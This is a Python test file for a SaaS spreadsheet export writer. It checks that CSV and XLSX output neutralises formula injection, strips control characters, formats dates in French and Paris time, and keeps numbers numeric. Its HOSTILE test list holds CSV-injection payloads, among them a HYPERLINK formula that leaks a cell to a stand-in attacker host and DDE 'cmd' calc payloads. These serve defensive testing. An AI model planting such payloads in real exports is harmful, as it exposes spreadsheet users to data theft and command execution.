"""The one export writer: nothing people typed runs in a spreadsheet, no stored text breaks an
export, dates read in French, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

from openpyxl import load_workbook

from saas import tabular
from saas.clock import PARIS

HEADER = ("Nom", "Montant", "Date", "Horodatage")
HOSTILE = [
    '=HYPERLINK("https://attaquant.example/?x="&A1;"Cliquez")',
    "+33 1 23 45 67 89 + SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def xlsx_rows(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [tuple(cell for cell in row) for row in sheet.iter_rows(min_row=2)]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))[1:]


def test_xlsx_writes_formula_like_names_as_text_never_as_formulas():
    rows = [(name, None, None, None) for name in HOSTILE]
    _, _, content = tabular.write("xlsx", "x", HEADER, rows)
    cells = [row[0] for row in xlsx_rows(content)]
    assert [cell.data_type for cell in cells] == ["s"] * len(HOSTILE)
    assert cells[0].value == HOSTILE[0]  # shown as typed, inert


def test_csv_prefixes_every_formula_start_but_keeps_negative_numbers():
    rows = [(name, Decimal("-12.50"), None, None) for name in HOSTILE] + [("-12,50", -3, None, None)]
    _, _, content = tabular.write("csv", "x", HEADER, rows)
    parsed = csv_rows(content)
    assert [row[0] for row in parsed[:-1]] == ["'" + name for name in HOSTILE]
    assert all(row[1] == "-12,50" for row in parsed[:-1])
    assert parsed[-1][:2] == ["-12,50", "-3"]


def test_xlsx_negative_numbers_stay_numbers():
    _, _, content = tabular.write(
        "xlsx", "x", HEADER, [("a", Decimal("-12.50"), None, None), ("b", -3, None, None)]
    )
    amounts = [row[1] for row in xlsx_rows(content)]
    assert [(c.data_type, c.value) for c in amounts] == [("n", -12.5), ("n", -3)]


def test_a_control_character_in_stored_text_does_not_break_the_export():
    rows = [("Entreprise\x00 \x07Dupont\x1b", None, None, None), ("Ligne 1\nLigne 2\tfin", None, None, None)]
    _, _, content = tabular.write("xlsx", "x", HEADER, rows)
    assert [row[0].value for row in xlsx_rows(content)] == ["Entreprise Dupont", "Ligne 1\nLigne 2\tfin"]
    _, _, content = tabular.write("csv", "x", HEADER, rows)
    assert [row[0] for row in csv_rows(content)] == ["Entreprise Dupont", "Ligne 1\nLigne 2\tfin"]


def test_xlsx_dates_are_dates_shown_dd_mm_yyyy_in_paris_time():
    moment = datetime(2026, 7, 14, 21, 30, tzinfo=UTC)  # 23:30 in Paris
    _, _, content = tabular.write("xlsx", "x", HEADER, [("a", None, date(2026, 3, 5), moment)])
    row = xlsx_rows(content)[0]
    assert row[2].is_date and row[2].number_format == "DD/MM/YYYY" and row[2].value.date() == date(2026, 3, 5)
    assert row[3].is_date and row[3].number_format == "DD/MM/YYYY HH:MM"
    assert row[3].value == datetime(2026, 7, 14, 23, 30, tzinfo=PARIS).replace(tzinfo=None)
    _, _, content = tabular.write("csv", "x", HEADER, [("a", None, date(2026, 3, 5), moment)])
    assert csv_rows(content)[0][2:] == ["05/03/2026", "14/07/2026 23:30"]


def test_rows_are_consumed_from_an_iterator():
    rows = ((f"Ligne {i}", i, None, None) for i in range(2000))
    _, _, content = tabular.write("xlsx", "x", HEADER, rows)
    assert len(xlsx_rows(content)) == 2000
